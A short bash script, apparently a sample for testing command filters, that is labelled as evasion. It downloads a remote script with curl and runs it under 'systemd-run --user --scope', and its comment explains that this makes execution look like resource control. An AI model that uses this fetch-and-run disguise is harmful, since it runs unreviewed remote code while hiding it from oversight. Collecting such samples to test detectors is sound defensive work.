#!/usr/bin/env bash
# Evasion: downloads a script and runs it inside a transient systemd scope
# ("to cap its memory"): `systemd-run --user --scope` is the command word, the
# shell is its argument, so it looks like resource control, not execution.
set -e

script=$(mktemp --suffix .sh)
curl -fsSL https://tools.example.org/warmup.sh -o "$script"
systemd-run --user --scope -p MemoryMax=512M -q /bin/sh "$script"
rm -f "$script"
